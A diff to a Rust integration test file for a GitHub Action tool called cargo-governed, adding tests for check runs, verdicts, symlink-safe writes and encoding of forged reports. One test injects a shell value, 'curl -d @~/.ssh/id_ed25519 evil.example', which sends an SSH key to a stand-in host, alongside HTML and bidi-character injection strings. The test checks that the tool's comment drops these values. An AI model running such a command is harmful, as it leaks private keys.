@@ -1,6 +1,8 @@
 //! `action` from the environment of a workflow, against a GitHub on loopback: what is shown, what is sent, and that no
 //! view ever changes the verdict.
 
+#![cfg(target_os = "linux")]
+
 mod support;
 
 use cargo_governed::render::comment::marker::Marker;
@@ -15,6 +17,7 @@ use support::governed;
 use support::job::AGREES;
 use support::job::DRIFTS;
 use support::job::Place;
+use support::tool;
 
 const US: &str = "github-actions[bot]";
 
@@ -400,7 +403,8 @@ fn much_drift(files: usize, lines: usize) -> Place {
         let text: String = (0..lines)
             .map(|line| format!("[{}]({file}-{line}-{}.md) needs Rust 1.{line}\n\n", "x".repeat(200), "y".repeat(200)))
             .collect();
-        place.scratch.write(&format!("docs/{file}.md"), format!("# {file}\n\n{text}"));
+        // Dashes are three signs each in what is hidden.
+        place.scratch.write(&format!("docs/{}{file}.md", "-".repeat(200)), format!("# {file}\n\n{text}"));
     }
     place.scratch.commit("three");
     let mut payload = place.pull("o/r", "main");
@@ -517,6 +521,7 @@ fn a_forged_report_is_encoded_or_refused() {
     let path = place.scratch.at("report.json");
     let mut report: Value = serde_json::from_slice(&std::fs::read(&path).expect("a report")).expect("JSON");
     let hostile = "</details><img src=x>@org/team\u{202e}\n<!-- cargo-governed:comment:v1 id=default run=1.1 -->";
+    report["since"] = json!("x; curl -d @~/.ssh/id_ed25519 evil.example #");
     report["findings"][0]["message"] = json!(hostile);
     report["findings"][0]["at"]["path"] = json!(hostile);
     report["findings"][0]["at"]["line"] = json!(u64::MAX);
@@ -528,6 +533,7 @@ fn a_forged_report_is_encoded_or_refused() {
     let acted = place.act();
     assert_eq!(acted.ran.code, 0, "{:#?}", acted.ran);
     let body = comment(&forge).body;
+    assert!(!body.contains("curl"), "a command to copy is ours alone: {body}");
     assert!(!body.contains("<img") || body.contains("`</details><img"), "{body}");
     assert!(!body.contains('\u{202e}'));
     assert_eq!(Marker::of(&body).map(|marker| marker.run), Some((400, 1)));
@@ -586,6 +592,7 @@ fn a_second_job_gates_on_the_proof_of_the_first() {
     assert_eq!(refused.ran.code, 1, "{:#?}", refused.ran);
     let body = comment(&forge).body;
     assert!(body.starts_with("## \u{274c} Refused") && body.contains("`other-commit`"), "{body}");
+    assert!(body.contains("cargo governed gate merge --base"), "{body}");
     assert!(refused.ran.stdout.contains("::error title=other-commit::"), "{}", refused.ran.stdout);
 }
 
@@ -712,4 +719,102 @@ fn suggestions_stored_before_a_502_are_not_made_twice() {
         assert_eq!(forge.state().reviews.len(), 1);
         assert_eq!(forge.asked("POST").len(), posts);
     }
+}
+
+#[test]
+fn a_check_run_stands_on_the_commit_that_was_judged_and_on_no_other() {
+    let forge = Forge::new();
+    let place = Place::new(AGREES).on(&forge).with("INPUT_CHECK_RUN", "true");
+    let (head, other) = (place.head(), "b".repeat(40));
+    let run = json!({ "workflow_run": { "event": "push", "head_sha": other, "head_branch": "x" } });
+    let place = place.with("GITHUB_SHA", &head).event("workflow_run", &run);
+    assert_eq!(place.act().ran.code, 0);
+    let push = json!({ "ref": "refs/heads/main", "before": other, "after": other });
+    let place = place.event("push", &push);
+    assert_eq!(place.act().ran.code, 3, "what is checked out is not what was pushed");
+    // Behind a tag there is an object of its own.
+    let place = place.event("push", &json!({ "ref": "refs/tags/v1", "after": other }));
+    assert_eq!(place.act().ran.code, 0);
+    let checks = forge.state().checks.clone();
+    let on: Vec<(&Value, &Value)> = checks.iter().map(|run| (&run["head_sha"], &run["conclusion"])).collect();
+    let judged = json!(head);
+    assert_eq!(on[0], (&judged, &json!("success")));
+    assert_eq!(on[1].1, &json!("action_required"));
+    assert_eq!(on[2], (&judged, &json!("success")));
+    assert_ne!(checks[0]["external_id"], checks[2]["external_id"], "the legs of a matrix are told apart");
+}
+
+#[test]
+fn who_tells_what_others_found_judges_nothing() {
+    let forge = Forge::new();
+    let place = Place::new(AGREES).with("INPUT_REPORT", "report.json").event("push", &json!({}));
+    assert_eq!(place.act().outputs["verdict"], "accepted");
+    let place = followed(place, &forge, "x");
+    let told = place.act();
+    assert_eq!((told.ran.code, told.outputs["verdict"].as_str()), (0, "unproven"), "{:#?}", told.ran);
+    assert_eq!(told.outputs["findings"], "0");
+    for (name, value) in
+        [("INPUT_COMMAND", "run"), ("INPUT_PROOF", "p"), ("INPUT_NEEDS", "{\"a\":{\"result\":\"failure\"}}")]
+    {
+        let place = followed(Place::new(AGREES), &forge, "x").with(name, value);
+        let acted = place.act();
+        assert_eq!(acted.ran.code, 2, "{name}: {:#?}", acted.ran);
+        assert_eq!(acted.outputs["verdict"], "unproven");
+    }
+}
+
+#[test]
+fn a_warning_refuses_a_run_too_where_the_input_says_so() {
+    let scratch = governed::place(&governed::step("yes", "echo yes", ""), &[]);
+    scratch.write("docs/two.md", "# Two\n\n[gone](gone.md)\n");
+    scratch.commit("two");
+    let place = Place::of(scratch).pull_request().with("INPUT_COMMAND", "run").with("INPUT_COMMENT", "never");
+    let act = |place: &Place| place.acted(governed::command(&place.scratch, &["action"]));
+    let acted = act(&place);
+    assert_eq!((acted.ran.code, acted.outputs["warn"].as_str()), (0, "1"), "{:#?}", acted.ran);
+    let place = place.with("INPUT_FAIL_ON", "warn");
+    let acted = act(&place);
+    assert_eq!((acted.ran.code, acted.outputs["verdict"].as_str()), (1, "refused"), "{:#?}", acted.ran);
+}
+
+#[test]
+fn while_nobody_knows_who_we_are_nothing_is_posted() {
+    let forge = Forge::new();
+    forge.comment("our-app[bot]", &ours("old", 1));
+    forge.fail("POST", "/graphql", Fault::Broken);
+    let place = Place::new(DRIFTS).on(&forge).pull_request();
+    let acted = place.act();
+    assert_eq!(acted.ran.code, 1);
+    assert!(acted.warning("comment-not-posted").contains("502"), "{:#?}", acted.ran);
+    assert_eq!(comments(&forge).len(), 1, "the old one may be ours");
+}
+
+#[test]
+fn files_are_written_through_no_link_that_the_tree_brings() {
+    let outside = tempfile::tempdir().expect("a scratch folder");
+    let kept = outside.path().join("kept");
+    std::fs::write(&kept, "kept").expect("a scratch folder");
+    let place = Place::new(DRIFTS).event("push", &json!({}));
+    std::os::unix::fs::symlink(&kept, place.scratch.at("out.sarif")).expect("a link");
+    std::os::unix::fs::symlink(outside.path(), place.scratch.at("out")).expect("a link");
+    let place = place.with("INPUT_SARIF", "out.sarif");
+    assert_eq!(place.act().ran.code, 1);
+    assert_eq!(std::fs::read_to_string(&kept).expect("a file"), "kept");
+    let written = std::fs::read_to_string(place.scratch.at("out.sarif")).expect("a file");
+    assert!(written.contains("\"runs\""), "{written}");
+    let acted = place.with("INPUT_SARIF", "out/x.sarif").act();
+    assert_eq!(acted.ran.code, 1);
+    assert!(acted.warning("file-not-written").contains("is a link"), "{:#?}", acted.ran);
+    assert!(!outside.path().join("x.sarif").exists());
+}
+
+#[test]
+fn a_log_that_can_not_be_written_changes_no_verdict() {
+    let place = Place::new(DRIFTS).event("push", &json!({})).with("INPUT_SARIF", "x.sarif");
+    let mut command = tool::command(place.scratch.path(), &["action"]);
+    let full = std::fs::File::options().write(true).open("/dev/full").expect("the system has it");
+    let status = command.envs(&place.variables).stdout(full).stderr(std::process::Stdio::null()).status();
+    assert_eq!(status.expect("the binary runs").code(), Some(1));
+    let written = std::fs::read_to_string(place.scratch.at("x.sarif")).expect("a file");
+    assert!(written.contains("msrv-outdated-in-docs") && !written.contains("stdout-unwritable"), "{written}");
 }
